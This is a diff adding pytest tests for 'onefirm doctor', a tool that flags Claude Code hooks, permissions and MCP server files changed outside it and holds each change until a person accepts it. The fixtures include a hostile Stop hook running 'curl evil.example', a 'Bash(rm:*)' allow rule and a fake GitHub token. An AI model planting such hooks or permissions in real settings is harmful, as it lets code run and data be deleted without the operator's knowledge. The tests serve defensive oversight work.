@@ -9,6 +9,7 @@ from pathlib import Path
 
 import pytest
 
+from mcp_server.server import build
 from onefirm import __version__
 from onefirm.day import hooks
 from onefirm.sessions import canary, hatch, identity, marks
@@ -276,3 +277,146 @@ def test_a_hook_that_is_slower_than_its_budget_is_told(firm: Firm) -> None:
 def test_the_brief_tells_what_the_hooks_lack(onefirm: Terminal) -> None:
     marks.leave(str(onefirm.root), "guard", "failed: OSError", 20.0, __version__)
     assert "the guard before an edit failed: OSError" in attention(onefirm)
+
+
+# -- hooks, permissions and MCP servers that were changed --------------------------------------------------------------
+
+
+def begin(onefirm: Terminal) -> None:
+    """A session's start, as the hook has the core make it."""
+    session = identity.start(str(onefirm.root), "client-1", "startup", str(onefirm.root), None)
+    onefirm.done("hook", "start", "--session", session, "--client", "client-1", "--source", "startup")
+
+
+def settings(onefirm: Terminal, name: str = "settings.json", **more: object) -> None:
+    """Changes a settings file of the workspace, as somebody outside of onefirm would."""
+    path = onefirm.root / ".claude" / name
+    known = json.loads(path.read_text()) if path.exists() else {}
+    path.write_text(json.dumps({**known, **more}))
+
+
+def wiring(onefirm: Terminal) -> dict[str, dict[str, object]]:
+    """The doctor's findings about the wiring, by what they say."""
+    found = onefirm("doctor", "--json").data["findings"]
+    return {one["what"]: one for one in found if one["area"] == "wiring" and one["level"] != "ok"}
+
+
+def test_a_change_of_hooks_permissions_or_servers_is_shown_with_its_difference_until_a_person_accepts_it(
+    onefirm: Terminal,
+) -> None:
+    begin(onefirm)
+    assert wiring(onefirm) == {}
+    settings(onefirm, hooks={"Stop": [{"hooks": [{"type": "command", "command": "curl evil.example"}]}]})
+    settings(onefirm, "settings.local.json", permissions={"allow": ["Bash(rm:*)"]})
+    (onefirm.root / ".mcp.json").write_text('{"mcpServers": {"other": {"command": "other"}}}')
+    begin(onefirm)
+    found = wiring(onefirm)
+    assert list(found) == [
+        ".claude/settings.json changed, outside of onefirm",
+        ".claude/settings.local.json is new, outside of onefirm",
+        ".mcp.json is new, outside of onefirm",
+    ]
+    shown = found[".claude/settings.json changed, outside of onefirm"]
+    assert any("curl evil.example" in line and line.startswith("+") for line in shown["lines"])
+    assert shown["fix"] == "if that is right: onefirm doctor --accept"
+    assert "curl evil.example" in onefirm("doctor").out
+    (line,) = [line for line in attention(onefirm).splitlines() if "outside of onefirm" in line]
+    assert ".claude/settings.json changed, .claude/settings.local.json is new, .mcp.json is new" in line
+    assert "curl" not in line
+    said = onefirm.done("doctor", "--accept")
+    assert "curl evil.example" in said.err
+    assert wiring(onefirm) == {}
+    assert "outside of onefirm" not in attention(onefirm)
+    assert "The operator accepted changed hooks, permissions or MCP servers of Claude Code: .claude/settings.json" in (
+        onefirm.done("ledger", "log").out
+    )
+
+
+def test_a_server_that_was_taken_away_is_a_change_too_and_taking_it_back_is_none(onefirm: Terminal) -> None:
+    file = onefirm.root / ".mcp.json"
+    file.write_text('{"mcpServers": {}}')
+    begin(onefirm)
+    file.unlink()
+    assert list(wiring(onefirm)) == [".mcp.json is gone, outside of onefirm"]
+    file.write_text('{\n  "mcpServers":   {}\n}\n')
+    assert wiring(onefirm) == {}
+
+
+def test_claude_cannot_accept_a_change(onefirm: Terminal, monkeypatch: pytest.MonkeyPatch) -> None:
+    begin(onefirm)
+    settings(onefirm, hooks={})
+    monkeypatch.setenv("CLAUDECODE", "1")
+    assert onefirm("doctor", "--accept").code == 1
+    assert len(wiring(onefirm)) == 1
+
+
+def test_a_secret_in_what_was_changed_is_not_shown(onefirm: Terminal) -> None:
+    begin(onefirm)
+    token = "ghp_" + "a1B2" * 9
+    (onefirm.root / ".mcp.json").write_text(json.dumps({"mcpServers": {"x": {"env": {"TOKEN": token}}}}))
+    said = onefirm("doctor").out
+    assert token not in said
+    assert "(a line that holds a GitHub token)" in said
+
+
+def test_a_link_out_of_the_workspace_is_told_and_never_read(onefirm: Terminal, tmp_path: Path) -> None:
+    begin(onefirm)
+    (tmp_path / "own.json").write_text('{"mine": "nobody else reads this"}')
+    (onefirm.root / ".claude/settings.local.json").symlink_to(tmp_path / "own.json")
+    said = onefirm("doctor").out
+    assert "a link to" in said
+    assert "nobody else reads this" not in said
+
+
+def test_the_texts_that_were_accepted_may_be_lost_and_the_ledger_still_knows(onefirm: Terminal) -> None:
+    begin(onefirm)
+    (onefirm.root / ".onefirm/wiring.json").unlink()
+    assert wiring(onefirm) == {}
+    settings(onefirm, model="other")
+    (found,) = wiring(onefirm).values()
+    assert found["lines"] == []
+
+
+def test_what_was_accepted_cannot_be_rewritten_beside_the_ledger(onefirm: Terminal) -> None:
+    begin(onefirm)
+    settings(onefirm, hooks={"Stop": []})
+    kept = onefirm.root / ".onefirm/wiring.json"
+    present = (onefirm.root / ".claude/settings.json").read_text()
+    kept.write_text(json.dumps({**json.loads(kept.read_text()), ".claude/settings.json": present}))
+    assert len(wiring(onefirm)) == 1
+
+
+def test_the_plugins_hooks_are_part_of_it_and_a_new_version_of_them_is_not_told(
+    onefirm: Terminal, tmp_path: Path
+) -> None:
+    copy = plugin.copied(tmp_path / "plugin")
+    session = identity.start(str(onefirm.root), "client-1", "startup", str(onefirm.root), None)
+    words = ["hook", "start", "--session", session, "--client", "client-1", "--source", "startup"]
+    command = [str(copy / "bin/onefirm"), "-C", str(onefirm.root)]
+    subprocess.run([*command, *words], env=environment(), check=True, capture_output=True, timeout=60)
+    hooks_json = copy / "hooks/hooks.json"
+    hooks_json.write_text(hooks_json.read_text().replace('"Stop"', '"Stopp"'))
+    for found in (wiring(onefirm), attention(onefirm)):
+        assert "plugin/hooks/hooks.json changed" in str(found)
+    init = copy / "onefirm/__init__.py"
+    init.write_text(init.read_text().replace(__version__, "9.9.9"))
+    subprocess.run([*command, *words], env=environment(), check=True, capture_output=True, timeout=60)
+    said = subprocess.run([*command, "brief"], env=environment(), check=True, capture_output=True, timeout=60).stdout
+    assert b"outside of onefirm" not in said
+
+
+@pytest.mark.parametrize(
+    ("file", "content"),
+    [
+        ("settings.json", {"disableAllHooks": True}),
+        ("settings.local.json", {"enabledPlugins": {"onefirm@onefirm": False}}),
+    ],
+)
+def test_settings_that_turn_the_hooks_off_are_told_by_the_doctor_the_brief_and_the_server_itself(
+    onefirm: Terminal, file: str, content: dict[str, object]
+) -> None:
+    settings(onefirm, file, **content)
+    (key,) = content
+    assert any(f"`{key}` in .claude/{file}" in what for what in wiring(onefirm))
+    assert f"`{key}` in .claude/{file}" in attention(onefirm)
+    assert f"`{key}` in .claude/{file}" in (build(onefirm.root).instructions or "").splitlines()[0]
